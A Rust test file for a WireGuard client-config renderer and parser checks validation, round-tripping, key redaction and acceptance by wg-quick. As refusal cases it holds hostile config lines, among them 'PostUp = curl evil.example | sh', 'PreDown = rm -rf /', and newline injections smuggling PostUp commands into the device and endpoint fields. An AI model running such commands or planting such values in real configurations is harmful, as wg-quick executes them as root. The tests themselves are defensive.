use super::*;

use std::collections::BTreeMap;
use std::path::Path;

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine as _;
use simpul_integration::netns::{missing_prerequisite, missing_tools, output_with_stdin, run, run_with_stdin, stdout};

/// Made by `wg genkey` / `wg pubkey`; both hold `+` or `/`, which a careless encoder or parser mangles.
const PRIVATE_KEY: &str = "SE9aWEUMh1+jy41Ek0TdPmmpyHAwEyNAp9M36ddJV3A=";
const GATEWAY_PUBLIC_KEY: &str = "QseDvwwlhEW+w4/vfwpWNgLOc+mEGVd82fVx+IITWHM=";

fn sample() -> ClientConfig {
    ClientConfig {
        device: "laptop-ops-01 (Bandung)".to_owned(),
        private_key: PRIVATE_KEY.to_owned(),
        address: Ipv4Addr::new(10, 77, 3, 14),
        gateway_public_key: GATEWAY_PUBLIC_KEY.to_owned(),
        endpoint: "gateway-simpul.kominfo.example.go.id:51820".to_owned(),
        allowed_ips: vec!["10.77.0.1/32".parse().unwrap()],
        persistent_keepalive: Some(25),
        mtu: Some(1380),
    }
}

/// Section name to its (key, value) pairs, in file order; comments and blank lines dropped as wg-quick does. Written
/// apart from `parse`, as the reading any INI-minded client does.
type Ini = Vec<(String, Vec<(String, String)>)>;

fn parse_ini(text: &str) -> Ini {
    let mut sections: Ini = Vec::new();
    for line in text.lines() {
        let line = line.split('#').next().unwrap().trim();
        if line.is_empty() {
            continue;
        }
        if let Some(name) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
            sections.push((name.to_owned(), Vec::new()));
            continue;
        }
        let (key, value) = line.split_once('=').unwrap_or_else(|| panic!("not key = value: {line:?}"));
        let section = sections.last_mut().unwrap_or_else(|| panic!("outside a section: {line:?}"));
        section.1.push((key.trim().to_owned(), value.trim().to_owned()));
    }
    sections
}

fn pairs(items: &[(&str, &str)]) -> Vec<(String, String)> {
    items.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
}

#[test]
fn render_writes_every_field() {
    let text = render(&sample()).unwrap();
    assert!(text.starts_with("# Simpul device: laptop-ops-01 (Bandung)\n"), "{text}");
    assert!(text.ends_with("PersistentKeepalive = 25\n") && !text.ends_with("\n\n"), "{text:?}");
    assert!(!text.contains('\r'));
    let expected: Ini = vec![
        ("Interface".to_owned(), pairs(&[("PrivateKey", PRIVATE_KEY), ("Address", "10.77.3.14/32"), ("MTU", "1380")])),
        (
            "Peer".to_owned(),
            pairs(&[
                ("PublicKey", GATEWAY_PUBLIC_KEY),
                ("AllowedIPs", "10.77.0.1/32"),
                ("Endpoint", "gateway-simpul.kominfo.example.go.id:51820"),
                ("PersistentKeepalive", "25"),
            ]),
        ),
    ];
    assert_eq!(parse_ini(&text), expected);
}

#[test]
fn render_leaves_out_unset_options_and_lists_every_network() {
    let config = ClientConfig {
        allowed_ips: vec!["10.77.0.1/32".parse().unwrap(), "fd77::1/128".parse().unwrap()],
        endpoint: "[2001:db8::7]:443".to_owned(),
        persistent_keepalive: None,
        mtu: None,
        ..sample()
    };
    let text = render(&config).unwrap();
    let ini: BTreeMap<String, BTreeMap<String, String>> =
        parse_ini(&text).into_iter().map(|(name, kv)| (name, kv.into_iter().collect())).collect();
    assert!(!ini["Interface"].contains_key("MTU"), "{text}");
    assert!(!ini["Peer"].contains_key("PersistentKeepalive"), "{text}");
    assert_eq!(ini["Peer"]["AllowedIPs"], "10.77.0.1/32, fd77::1/128");
    assert_eq!(ini["Peer"]["Endpoint"], "[2001:db8::7]:443");
    assert!(text.ends_with("Endpoint = [2001:db8::7]:443\n"), "{text:?}");
}

#[test]
fn render_then_parse_gives_the_same_config() {
    let table = [
        sample(),
        ClientConfig { persistent_keepalive: None, mtu: None, ..sample() },
        ClientConfig {
            device: "a".to_owned(),
            endpoint: "[2001:db8::7]:443".to_owned(),
            allowed_ips: vec!["10.77.0.1/32".parse().unwrap(), "fd77::1/128".parse().unwrap()],
            persistent_keepalive: Some(0),
            mtu: Some(MIN_MTU),
            ..sample()
        },
        ClientConfig { device: "#1 = [Peer] ~".to_owned(), endpoint: "198.51.100.20:1".to_owned(), ..sample() },
        ClientConfig { allowed_ips: vec!["0.0.0.0/0".parse().unwrap()], mtu: Some(u16::MAX), ..sample() },
    ];
    for config in table {
        let text = render(&config).unwrap();
        assert_eq!(parse(&text).as_ref(), Ok(&config), "{text}");
    }
}

#[test]
fn render_accepts_every_endpoint_form_the_clients_accept() {
    for endpoint in ["198.51.100.20:51820", "[2001:db8::7]:51820", "[::ffff:198.51.100.20]:1", "gw.example:65535"] {
        let config = ClientConfig { endpoint: endpoint.to_owned(), ..sample() };
        assert!(render(&config).is_ok(), "{endpoint}");
    }
}

/// The error `render` gives for `config`, after checking that it does not carry the private key.
fn rejection(config: ClientConfig) -> WgQuickError {
    let error = render(&config).expect_err(&format!("{config:?} was accepted"));
    assert!(!error.to_string().contains(&config.private_key[..20]), "error leaks the private key: {error}");
    error
}

#[test]
fn render_rejects_what_a_caller_may_get_wrong() {
    for device in ["", "x\nPostUp = touch /tmp/pwned", "laptop\r", "laptop-dinas-ñ"] {
        let error = rejection(ClientConfig { device: device.to_owned(), ..sample() });
        assert!(matches!(error, WgQuickError::InvalidDeviceName(_)), "{device:?}: {error:?}");
    }
    // A trailing newline as read from a file, one character short, valid base64 of 33 and 31 bytes, hex.
    let bad_keys =
        [format!("{PRIVATE_KEY}\n"), PRIVATE_KEY[..43].to_owned(), BASE64.encode([7; 33]), BASE64.encode([7; 31])];
    for key in bad_keys.iter().cloned().chain(["ab".repeat(32)]) {
        let error = rejection(ClientConfig { private_key: key.clone(), ..sample() });
        assert!(matches!(error, WgQuickError::InvalidKey { field: "private_key" }), "{key:?}: {error:?}");
        let error = rejection(ClientConfig { gateway_public_key: key.clone(), ..sample() });
        assert!(matches!(error, WgQuickError::InvalidKey { field: "gateway_public_key" }), "{key:?}: {error:?}");
    }
    let bad_endpoints = [
        "gw.example",
        "gw.example:",
        "gw.example:0",
        "gw.example:65536",
        "gw.example:+443",
        ":51820",
        "2001:db8::7:51820",
        "[gw.example]:51820",
        "[2001:db8::7]",
        "gw example:51820",
        "gw.example:51820\nPostUp = id",
    ];
    for endpoint in bad_endpoints {
        let error = rejection(ClientConfig { endpoint: endpoint.to_owned(), ..sample() });
        assert!(matches!(error, WgQuickError::InvalidEndpoint { .. }), "{endpoint:?}: {error:?}");
    }
    let error = rejection(ClientConfig { allowed_ips: Vec::new(), ..sample() });
    assert!(matches!(error, WgQuickError::NoAllowedIps), "{error:?}");
    let error = rejection(ClientConfig { allowed_ips: vec!["10.77.0.1/16".parse().unwrap()], ..sample() });
    assert!(matches!(error, WgQuickError::AllowedIpsHostBits(_)), "{error:?}");
    let error = rejection(ClientConfig { mtu: Some(MIN_MTU - 1), ..sample() });
    assert!(matches!(error, WgQuickError::MtuTooSmall(575)), "{error:?}");
    assert!(render(&ClientConfig { mtu: Some(MIN_MTU), ..sample() }).is_ok());
}

/// The sample's file with `from` replaced by `to` (which must be there).
fn edited(from: &str, to: &str) -> String {
    let text = render(&sample()).unwrap();
    assert!(text.contains(from), "{from:?} not in {text}");
    text.replacen(from, to, 1)
}

/// A file that must be refused, and how: what it is, its text, and a check of the error.
type Refusal = (&'static str, String, fn(&WgQuickError) -> bool);

#[test]
fn parse_refuses_hostile_and_foreign_files() {
    let peer =
        format!("[Peer]\nPublicKey = {GATEWAY_PUBLIC_KEY}\nAllowedIPs = 10.77.0.1/32\nEndpoint = gw.example:1\n");
    let table: Vec<Refusal> = vec![
        // Commands wg-quick would run as root, and keys that change the laptop beyond the tunnel.
        (
            "PostUp",
            edited("MTU = 1380", "PostUp = curl evil.example | sh"),
            |e| matches!(e, WgQuickError::UnsupportedKey { section: "Interface", key, .. } if key == "PostUp"),
        ),
        (
            "PreDown",
            edited("[Peer]", "PreDown = rm -rf /\n[Peer]"),
            |e| matches!(e, WgQuickError::UnsupportedKey { key, .. } if key == "PreDown"),
        ),
        (
            "DNS",
            edited("MTU = 1380", "DNS = 10.77.0.1"),
            |e| matches!(e, WgQuickError::UnsupportedKey { key, .. } if key == "DNS"),
        ),
        ("Table", edited("MTU = 1380", "Table = off"), |e| matches!(e, WgQuickError::UnsupportedKey { .. })),
        ("PresharedKey", edited("Endpoint", &format!("PresharedKey = {PRIVATE_KEY}\nEndpoint")), |e| {
            matches!(e, WgQuickError::UnsupportedKey { section: "Peer", .. })
        }),
        ("a second peer", format!("{}\n{peer}", render(&sample()).unwrap()), |e| {
            matches!(e, WgQuickError::Syntax { reason: "one [Interface] then one [Peer]", .. })
        }),
        ("a peer first", format!("# Simpul device: x\n{peer}"), |e| matches!(e, WgQuickError::Syntax { line: 2, .. })),
        ("an unknown section", edited("[Peer]", "[Peers]"), |e| {
            matches!(e, WgQuickError::Syntax { reason: "an unknown section", .. })
        }),
        ("a key twice", edited("MTU = 1380", &format!("PrivateKey = {PRIVATE_KEY}")), |e| {
            matches!(e, WgQuickError::Duplicate { line: 5, key: "PrivateKey" })
        }),
        ("an endpoint twice", edited("PersistentKeepalive", "Endpoint = gw.example:2\nPersistentKeepalive"), |e| {
            matches!(e, WgQuickError::Duplicate { key: "Endpoint", .. })
        }),
        ("a key outside a section", format!("MTU = 1380\n{}", render(&sample()).unwrap()), |e| {
            matches!(e, WgQuickError::Syntax { line: 1, .. })
        }),
        ("no equals sign", edited("MTU = 1380", "MTU 1380"), |e| matches!(e, WgQuickError::Syntax { .. })),
        // Wider than the device's own address, or no address at all.
        ("an address network", edited("10.77.3.14/32", "10.77.0.0/16"), |e| {
            matches!(e, WgQuickError::InvalidValue { key: "Address", .. })
        }),
        ("an IPv6 address", edited("10.77.3.14/32", "fd77::3/128"), |e| {
            matches!(e, WgQuickError::InvalidValue { key: "Address", .. })
        }),
        ("no address", edited("Address = 10.77.3.14/32\n", ""), |e| matches!(e, WgQuickError::Missing("Address"))),
        ("no endpoint", edited("Endpoint = gateway-simpul.kominfo.example.go.id:51820\n", ""), |e| {
            matches!(e, WgQuickError::Missing("Endpoint"))
        }),
        ("no device comment", edited("# Simpul device: laptop-ops-01 (Bandung)\n", ""), |e| {
            matches!(e, WgQuickError::Missing(_))
        }),
        ("a bare carriage return", edited(":51820", ":51820\rPostUp = id"), |e| {
            matches!(e, WgQuickError::Syntax { line: 10, reason: "only printable ASCII" })
        }),
        ("a control character", edited("10.77.0.1/32", "10.77.0.1/32\u{1b}"), |e| {
            matches!(e, WgQuickError::Syntax { .. })
        }),
        ("a bad key", edited(PRIVATE_KEY, &"ab".repeat(22)), |e| matches!(e, WgQuickError::InvalidKey { .. })),
        ("a bad network", edited("10.77.0.1/32", "10.77.0.1/33"), |e| {
            matches!(e, WgQuickError::InvalidValue { key: "AllowedIPs", .. })
        }),
        ("host bits", edited("10.77.0.1/32", "10.77.0.1/16"), |e| matches!(e, WgQuickError::AllowedIpsHostBits(_))),
        ("an endpoint smuggling a key", edited(":51820", ":51820 PostUp"), |e| {
            matches!(e, WgQuickError::InvalidEndpoint { .. })
        }),
        ("a negative keepalive", edited("= 25", "= -1"), |e| {
            matches!(e, WgQuickError::InvalidValue { key: "PersistentKeepalive", .. })
        }),
        ("a tiny MTU", edited("1380", "500"), |e| matches!(e, WgQuickError::MtuTooSmall(500))),
    ];
    for (what, text, expected) in table {
        let error = parse(&text).expect_err(what);
        assert!(expected(&error), "{what}: {error:?}");
        assert!(!error.to_string().contains(&PRIVATE_KEY[..20]), "{what}: the error leaks the private key: {error}");
    }
    // The table's edits are what break the files: the unedited file, with comments and spacing as people leave them,
    // is read.
    let relaxed = render(&sample()).unwrap().replace("MTU = 1380", "  MTU=1380   # the office's path\n\n# a note");
    assert_eq!(parse(&relaxed), Ok(sample()));
    // Windows line ends, as the Windows client saves a file.
    assert_eq!(parse(&render(&sample()).unwrap().replace('\n', "\r\n")), Ok(sample()));
}

#[test]
fn debug_never_shows_the_private_key() {
    let shown = format!("{:?}", sample());
    assert!(!shown.contains(PRIVATE_KEY) && shown.contains("<redacted>"), "{shown}");
    assert!(shown.contains(GATEWAY_PUBLIC_KEY), "{shown}");
}

/// `wg {args}` with `stdin`, which must succeed; its standard output, trimmed.
fn wg(args: &[&str], stdin: &str) -> String {
    stdout(&run_with_stdin("wg", args, stdin.as_bytes()))
}

fn value_of<'a>(text: &'a str, key: &str) -> Option<&'a str> {
    text.lines().find_map(|line| line.strip_prefix(key)?.trim_start().strip_prefix('=').map(str::trim))
}

#[test]
fn wg_derives_the_expected_public_key_from_the_exported_private_key() {
    if missing_tools("wg_derives_the_expected_public_key_from_the_exported_private_key", &["wg"]) {
        return;
    }
    let private_key = wg(&["genkey"], "");
    let public_key = wg(&["pubkey"], &private_key);
    let file = render(&ClientConfig { private_key, ..sample() }).unwrap();
    let exported = value_of(&file, "PrivateKey").unwrap();
    assert_eq!(wg(&["pubkey"], exported), public_key);
    let read = parse(&file).unwrap();
    assert_eq!(read.private_key.parse::<PrivateKey>().unwrap().public_key().to_string(), public_key);
}

/// `wg setconf` parses the whole file (keys, AllowedIPs, endpoint resolution) before it looks for the interface,
/// so "Configuration parsing error" versus "Unable to modify interface" tells whether `wg` accepted it, without
/// creating an interface. It runs in a fresh network namespace, so no real interface of that name can be
/// touched; the name is unique to this process and its userspace socket (not namespaced) is checked absent.
fn wg_accepts(stripped: &str) -> bool {
    let interface = format!("sxp{}", std::process::id());
    assert!(!Path::new(&format!("/var/run/wireguard/{interface}.sock")).exists());
    let output =
        output_with_stdin("unshare", &["--net", "wg", "setconf", &interface, "/dev/stdin"], stripped.as_bytes());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success(), "wg setconf {interface} found an interface to configure: {stderr}");
    match (stderr.contains("Configuration parsing error"), stderr.contains("Unable to modify interface")) {
        (false, true) => true,
        (true, false) => false,
        _ => panic!("unexpected answer from wg setconf: {stderr}"),
    }
}

#[test]
fn wg_quick_strip_and_wg_accept_the_file() {
    let test = "wg_quick_strip_and_wg_accept_the_file";
    if missing_prerequisite(test, &["wg-quick", "wg", "unshare"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("simpul.conf");
    // localhost resolves from /etc/hosts, so `wg` resolving the endpoint needs no network.
    for endpoint in ["198.51.100.20:51820", "[2001:db8::7]:51820", "localhost:51820"] {
        let file = render(&ClientConfig { endpoint: endpoint.to_owned(), ..sample() }).unwrap();
        std::fs::write(&path, &file).unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
        let output = run("wg-quick", &["strip", path.to_str().unwrap()]);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.is_empty(), "wg-quick strip: {stderr}");
        let stripped = String::from_utf8(output.stdout).unwrap();

        // wg-quick took Address and MTU for itself and passed the rest on untouched.
        assert_eq!(value_of(&stripped, "Address"), None, "{stripped}");
        assert_eq!(value_of(&stripped, "MTU"), None, "{stripped}");
        assert_eq!(value_of(&stripped, "PrivateKey"), Some(PRIVATE_KEY));
        assert_eq!(value_of(&stripped, "PublicKey"), Some(GATEWAY_PUBLIC_KEY));
        assert_eq!(value_of(&stripped, "AllowedIPs"), Some("10.77.0.1/32"));
        assert_eq!(value_of(&stripped, "Endpoint"), Some(endpoint));
        assert_eq!(value_of(&stripped, "PersistentKeepalive"), Some("25"));

        assert!(wg_accepts(&stripped), "wg rejected {stripped}");
        // The check can fail: the same file with one broken field is refused.
        let broken = stripped.replace("10.77.0.1/32", "10.77.0.1/33");
        assert!(!wg_accepts(&broken), "wg accepted {broken}");
    }
}
